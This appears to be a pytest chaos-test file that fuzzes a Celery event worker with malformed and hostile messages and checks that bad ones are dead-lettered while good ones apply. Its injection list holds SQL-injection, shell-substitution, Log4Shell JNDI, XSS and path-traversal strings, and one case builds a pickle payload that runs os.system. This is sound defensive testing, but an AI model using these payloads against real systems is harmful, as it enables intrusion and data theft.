"""Scenario 7, hostile input: hypothesis generates malformed, oversized, wrongly typed, unicode-laden
and injection-shaped events, and raw garbage pushed onto the queue lists with a plain LPUSH. Around
each batch, good events: the worker never crashes or stalls, each bad message becomes exactly one
dead letter with a clear reason, and the good ones (hostile text in free-text fields included) are
applied verbatim."""

from __future__ import annotations

import base64
import json
import uuid
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from tests.chaos.harness import (
    Event,
    Publisher,
    assert_no_secrets,
    command_for,
    poll,
    read_state,
    record,
)
from tests.conftest import TEST_ENV

pytestmark = [pytest.mark.chaos, pytest.mark.timeout(900)]
DB = TEST_ENV["DATABASE_URL"]
WORKERS = 2
EXAMPLES = 40
MAX_EVENT_BYTES = 64 * 1024  # the setting's default, which the chaos workers keep

# Each example takes real workers a second or so: no shrinking (a failure is reported as found),
# and nothing written to a .hypothesis directory.
SETTINGS = dict(max_examples=EXAMPLES, deadline=None, database=None,
                phases=[Phase.explicit, Phase.generate],
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large])
INJECTION = [
    "'; DROP TABLE ledger_entries; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
    "$(reboot)", "`id`", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>", "%s%s%s%n",
    "{0.__class__.__mro__}", "../../etc/passwd", "a\r\nX-Injected: 1", "nul\x00byte", "\u202egnp.exe",
    "zero\u200bwidth", "💸🔥", "Z̷̢͉a̸l̶g̵o", "ﷺ", "\ud800 lone surrogate", "sk-live-notakey-0123456789",
    "\\", "\"", "'", "\x1b[31mred", "' UNION SELECT key_encrypted FROM accounts --",
]
hostile_text = st.one_of(st.sampled_from(INJECTION), st.text(min_size=0, max_size=60),
                         st.text(alphabet=st.characters(min_codepoint=0x80), min_size=1, max_size=40))
json_leaf = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_text)
json_value = st.recursive(json_leaf, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                             st.dictionaries(st.text(max_size=8), inner, max_size=4)),
                          max_leaves=12)
# Never accepted for any field whatever pydantic's lax coercion does: containers and booleans.
wrong_type = st.one_of(st.lists(json_leaf, max_size=3), st.dictionaries(st.text(max_size=5), json_leaf, max_size=3),
                       st.booleans())

FIELDS = {
    "events.signup": {"user_id": "u", "email": "u@example.com", "occurred_at": "2026-11-20T10:00:00Z"},
    "events.payment": {"provider": "paystack", "reference": "r", "user_id": "u", "amount_minor": 1500,
                       "currency": "USD", "paid_at": "2026-11-20T10:00:00Z", "plan": "pro"},
    "events.refund": {"provider": "paystack", "refund_reference": "rr", "payment_reference": "r", "user_id": "u",
                      "amount_minor": 500, "currency": "USD", "refunded_at": "2026-11-20T10:00:00Z"},
}
REQUIRED = {"events.signup": ["user_id", "occurred_at"],
            "events.payment": ["reference", "user_id", "amount_minor", "currency", "paid_at"],
            "events.refund": ["refund_reference", "payment_reference", "user_id", "amount_minor", "currency",
                              "refunded_at"]}


@st.composite
def bad_event(draw: st.DrawFn) -> tuple[str, Any, str]:
    """(task, event, how it is broken): always invalid by the event schema, whatever else it holds."""
    task = draw(st.sampled_from(sorted(FIELDS)))
    event: dict[str, Any] = dict(FIELDS[task])
    event["user_id"] = f"h{uuid.uuid4().hex[:10]}"
    how = draw(st.sampled_from(["missing", "extra", "wrong type", "bad user_id", "not an object", "huge number",
                                "bad currency", "naive time"]))
    if how == "missing":
        del event[draw(st.sampled_from(REQUIRED[task]))]
    elif how == "extra":
        event[draw(st.text(min_size=1, max_size=20).filter(lambda k: k not in FIELDS[task]))] = draw(json_value)
    elif how == "wrong type":
        event[draw(st.sampled_from(sorted(FIELDS[task])))] = draw(wrong_type)
    elif how == "bad user_id":
        event["user_id"] = draw(st.one_of(
            st.just(""), st.text(min_size=129, max_size=300, alphabet="abc"),
            hostile_text.filter(lambda t: any(not (c.isascii() and (c.isalnum() or c in "._@:-")) for c in t))))
    elif how == "not an object":
        return task, draw(st.one_of(json_leaf, st.lists(json_value, max_size=3))), how
    elif how == "huge number":
        event["amount_minor" if task != "events.signup" else "user_id"] = draw(
            st.one_of(st.integers(min_value=10**15), st.integers(max_value=0)))
    elif how == "bad currency":
        if task == "events.signup":
            event["occurred_at"] = draw(hostile_text)
        else:
            event["currency"] = draw(hostile_text.filter(lambda t: not (len(t) == 3 and t.isascii() and t.isalpha())))
    elif how == "naive time":
        event[{"events.signup": "occurred_at", "events.payment": "paid_at", "events.refund": "refunded_at"}[task]] = \
            "2026-11-20T10:00:00"
    return task, event, how


def envelope(task: str, event: Any) -> dict[str, Any]:
    """A Celery protocol-2 message as README.md documents it, built by hand."""
    task_id = str(uuid.uuid4())
    body = [[], {"event": event}, {"callbacks": None, "errbacks": None, "chain": None, "chord": None}]
    return {
        "body": base64.b64encode(json.dumps(body).encode()).decode(),
        "content-type": "application/json", "content-encoding": "utf-8",
        "headers": {"lang": "js", "task": task, "id": task_id, "root_id": task_id, "parent_id": None,
                    "group": None, "retries": 0, "eta": None, "expires": None},
        "properties": {"correlation_id": task_id, "body_encoding": "base64", "delivery_tag": str(uuid.uuid4()),
                       "delivery_mode": 2, "delivery_info": {"exchange": "", "routing_key": "signups"},
                       "priority": 0},
    }


def _drop(message: dict[str, Any], path: str) -> dict[str, Any]:
    *parents, leaf = path.split(".")
    node = message
    for p in parents:
        node = node[p]
    node.pop(leaf, None)
    return message


@st.composite
def garbage(draw: st.DrawFn) -> tuple[bytes, str]:
    """(raw item for LPUSH, what it is): anything but a runnable message."""
    good = envelope("events.signup", {"user_id": f"g{uuid.uuid4().hex[:8]}", "occurred_at": "2026-11-20T10:00:00Z"})
    kind = draw(st.sampled_from(["bytes", "text", "json", "deep", "oversized", "missing field", "bad body",
                                 "pickle", "unknown task", "wrong shape"]))
    if kind == "bytes":
        raw = draw(st.binary(min_size=1, max_size=300))
    elif kind == "text":
        raw = draw(hostile_text.filter(bool)).encode("utf-8", "surrogatepass")
    elif kind == "json":
        raw = json.dumps(draw(json_value)).encode()
    elif kind == "deep":
        raw = b"[" * draw(st.integers(2_000, 200_000))
    elif kind == "oversized":
        raw = b'{"body": "' + b"A" * draw(st.integers(4 * MAX_EVENT_BYTES + 1, 6 * MAX_EVENT_BYTES)) + b'"}'
    elif kind == "missing field":
        path = draw(st.sampled_from(["body", "content-type", "headers", "headers.id", "headers.task", "properties",
                                     "properties.delivery_tag", "properties.delivery_info",
                                     "properties.body_encoding"]))
        raw = json.dumps(_drop(good, path)).encode()
    elif kind == "bad body":
        good["body"] = draw(st.one_of(
            hostile_text, st.just(base64.b64encode(draw(st.binary(max_size=200))).decode()),
            st.just(base64.b64encode(json.dumps(draw(json_value)).encode()).decode())))
        raw = json.dumps(good).encode()
    elif kind == "pickle":
        good["content-type"] = "application/x-python-serialize"
        good["body"] = base64.b64encode(b"\x80\x04\x95cos\nsystem\n(S'id'\ntR.").decode()
        raw = json.dumps(good).encode()
    elif kind == "unknown task":
        good["headers"]["task"] = draw(st.one_of(hostile_text, st.just("worker.db.dispose_engine"),
                                                 st.just("celery.chord_unlock")))
        raw = json.dumps(good).encode()
    else:  # wrong shape: a field of the envelope with the wrong JSON type
        path = draw(st.sampled_from(["headers", "properties", "properties.delivery_info", "headers.id",
                                     "headers.task", "properties.delivery_tag", "body"]))
        *parents, leaf = path.split(".")
        node = good
        for p in parents:
            node = node[p]
        node[leaf] = draw(wrong_type.filter(lambda v: v != node[leaf]))
        raw = json.dumps(good).encode()
    return raw, kind


def good_signup(tag: str) -> Event:
    user = f"good-{tag}-{uuid.uuid4().hex[:8]}"
    body = {"user_id": user, "email": f"{user}@example.com", "occurred_at": "2026-11-20T10:00:00Z"}
    return Event("events.signup", body, f"signup:{user}", user)


def hostile_but_valid(text: str) -> Event:
    """Free-text fields may hold anything JSON and PostgreSQL text can carry: applied verbatim."""
    user = f"odd-{uuid.uuid4().hex[:8]}"
    email = text.replace("\x00", "").encode("utf-8", "replace").decode("utf-8")[:320] or "-"
    return Event("events.signup", {"user_id": user, "email": email, "occurred_at": "2026-11-20T10:00:00Z"},
                 f"signup:{user}", user)


class Tally:
    def __init__(self) -> None:
        self.bad = 0
        self.good = 0
        self.kinds: dict[str, int] = {}
        self.reasons: dict[str, int] = {}


def check_batch(pool, chaos_proxy, broker, publisher: Publisher, bad_count: int, push_bad, tally: Tally,
                extra_good: list[Event]) -> None:
    before = len(read_state(DB).dead)
    first, last = good_signup("before"), good_signup("after")
    publisher.send(first)
    push_bad()
    for ev in extra_good:
        publisher.send(ev)
    publisher.send(last)
    goods = [first, *extra_good, last]
    # The good events around the bad ones are applied: the worker neither crashed nor stalled.
    settle_state = settle_goods(chaos_proxy, broker, goods)
    dead = poll(lambda: dead_letters(before + bad_count)[before:], 30, f"{bad_count} dead letters", 0.1)
    assert len(read_state(DB).dead) == before + bad_count, "a bad message was dead-lettered twice"
    for letter in dead:
        reason = letter["reason"]
        assert reason and len(reason) < 2000, letter
        assert not reason.startswith("unexpected error"), letter
        assert "Traceback" not in reason, letter
        tally.reasons[category(reason)] = tally.reasons.get(category(reason), 0) + 1
    for ev in extra_good:
        assert settle_state.accounts[ev.user_id]["email"] == ev.body["email"], "hostile text not stored verbatim"
    assert all(p.poll() is None for p in pool.procs), "a worker died"
    tally.bad += bad_count
    tally.good += len(goods)


def category(reason: str) -> str:
    """A dead letter's reason without its particulars: the broker's refusal, or what pydantic said."""
    for prefix in ("not a Celery message", "oversized message", "oversized event", "message body cannot be decoded",
                   "unknown task name", "invalid task message"):
        if reason.startswith(prefix):
            return prefix
    return "invalid event: " + reason.split(": ", 1)[-1].split(";")[0][:60]


def dead_letters(at_least: int) -> list[dict[str, Any]]:
    dead = read_state(DB).dead
    return dead if len(dead) >= at_least else []


def settle_goods(chaos_proxy, broker, goods: list[Event]):
    def applied():
        state = read_state(DB, chaos_proxy)
        done = all(g.key in state.ledger and state.accounts[g.user_id]["status"] == "active" for g in goods)
        return state if done else None

    return poll(applied, 60, "the good events around the bad ones", 0.1)


@pytest.fixture(scope="module")
def tally() -> Tally:
    return Tally()


def test_malformed_events_are_dead_lettered_with_a_reason_and_good_ones_go_through(pool, chaos_proxy, broker,
                                                                                    tally):
    pool.start_many(WORKERS)
    publisher = Publisher(TEST_ENV["REDIS_URL"])

    @settings(**SETTINGS)
    @given(bad=st.lists(bad_event(), min_size=1, max_size=3), odd=hostile_text)
    def run(bad: list[tuple[str, Any, str]], odd: str) -> None:
        def push() -> None:
            for task, event, how in bad:
                publisher.app.send_task(task, kwargs={"event": event}, producer=publisher.producer)
                tally.kinds[f"event: {how}"] = tally.kinds.get(f"event: {how}", 0) + 1

        check_batch(pool, chaos_proxy, broker, publisher, len(bad), push, tally, [hostile_but_valid(odd)])

    run()
    publisher.close()
    assert_no_secrets(pool, DB)


def test_raw_garbage_on_the_queues_is_dead_lettered_and_the_worker_goes_on(pool, chaos_proxy, broker, tally):
    pool.start_many(WORKERS)
    publisher = Publisher(TEST_ENV["REDIS_URL"])

    @settings(**SETTINGS)
    @given(items=st.lists(st.tuples(garbage(), st.sampled_from(["signups", "payments"])), min_size=1, max_size=3))
    def run(items: list[tuple[tuple[bytes, str], str]]) -> None:
        def push() -> None:
            for (raw, kind), queue in items:
                broker.lpush(queue, raw)
                tally.kinds[f"raw: {kind}"] = tally.kinds.get(f"raw: {kind}", 0) + 1

        check_batch(pool, chaos_proxy, broker, publisher, len(items), push, tally, [])

    run()
    publisher.close()
    lines = assert_no_secrets(pool, DB)
    record(
        "7-hostile-input",
        title="Hostile input",
        command=command_for("tests/chaos/test_hostile_input.py"),
        injects=f"hypothesis: {EXAMPLES} batches of 1-3 schema-invalid events (sent as a producer would) and "
                f"{EXAMPLES} batches of 1-3 raw items LPUSHed onto signups/payments, each batch between good "
                f"events, plus one valid signup with hostile text per event batch; {WORKERS} workers",
        events_sent=tally.bad + tally.good, messages_published=tally.bad + tally.good, applied=tally.good,
        duplicated=0, lost=0, dead_lettered=tally.bad, drain_s=None,
        extra={"bad_messages": tally.bad, "good_messages": tally.good, "by_kind": dict(sorted(tally.kinds.items())),
               "dead_letter_reasons": dict(sorted(tally.reasons.items())), "log_lines_scanned": lines},
    )


def test_oversized_events_are_rejected_before_they_are_parsed(pool, chaos_proxy, broker):
    """Above MAX_EVENT_BYTES an event is dead-lettered as oversized, unparsed, whatever it holds:
    here text that would fail validation anyway, and nesting json.loads could not even decode."""
    pool.start()
    publisher = Publisher(TEST_ENV["REDIS_URL"])
    sizes = [MAX_EVENT_BYTES + 4096, 2 * MAX_EVENT_BYTES, 5 * MAX_EVENT_BYTES, 20 * MAX_EVENT_BYTES]
    first, last = good_signup("before"), good_signup("after")
    publisher.send(first)
    for n in sizes:
        publisher.app.send_task("events.signup", kwargs={"event": {"user_id": "big", "email": "x" * n}},
                                producer=publisher.producer)
    deep = envelope("events.signup", None)
    deep["body"] = base64.b64encode(b"[" * (2 * MAX_EVENT_BYTES)).decode()
    broker.lpush("signups", json.dumps(deep).encode())
    broker.lpush("signups", b"[" * (5 * MAX_EVENT_BYTES))
    publisher.send(last)
    publisher.close()
    settle_goods(chaos_proxy, broker, [first, last])
    dead = poll(lambda: dead_letters(len(sizes) + 2), 30, "the dead letters")
    record(
        "7b-oversized",
        title="Oversized payloads",
        command=command_for("tests/chaos/test_hostile_input.py::test_oversized_events_are_rejected_before_they_are_parsed"),
        injects=f"signups of {', '.join(str(n // 1024) for n in sizes)} KiB (MAX_EVENT_BYTES={MAX_EVENT_BYTES // 1024} "
                f"KiB) and two deeply nested raw items of 128 and 320 KiB",
        events_sent=len(sizes) + 4, messages_published=len(sizes) + 4, applied=2, duplicated=0, lost=0,
        dead_lettered=len(dead), drain_s=None,
        extra={"reasons": [d["reason"][:100] for d in dead]},
    )
    assert len(dead) == len(sizes) + 2
    assert all(d["reason"].startswith("oversized") and "not parsed" in d["reason"] for d in dead), dead
